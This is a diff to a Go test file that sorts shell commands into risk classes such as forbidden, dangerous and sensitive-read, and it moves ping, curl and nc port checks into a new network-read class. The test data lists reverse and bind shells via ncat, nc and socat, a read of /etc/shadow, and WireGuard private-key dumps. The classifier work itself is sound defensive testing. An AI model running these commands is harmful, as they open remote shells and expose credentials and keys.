@@ -21,8 +21,8 @@ func TestTheNetworkIsLookedAtNotUsed(t *testing.T) {
 		dangerous | ifconfig eth0 down
 		dangerous | arp -d 192.0.2.1
 		dangerous | route add default gw 10.0.0.1
-		write | ping -c 1 host
-		write | curl -s http://host
+		network-read | ping -c 1 host
+		network-read | curl -s http://host
 		write | curl -o pwned file:///etc/hostname
 		unknown | curl -K evil.cfg
 		unknown | dig -f /etc/shadow
@@ -30,7 +30,7 @@ func TestTheNetworkIsLookedAtNotUsed(t *testing.T) {
 		forbidden | ncat --exec /bin/sh 192.0.2.1 4444
 		forbidden | nc -lvp 4444 -e /bin/sh
 		forbidden | ncat -c sh host 1
-		write | nc -zv host 22
+		network-read | nc -zv host 22
 		forbidden | socat TCP:192.0.2.1:4444 EXEC:/bin/sh
 		sensitive-read | wg showconf wg0
 		sensitive-read | wg show wg0 private-key
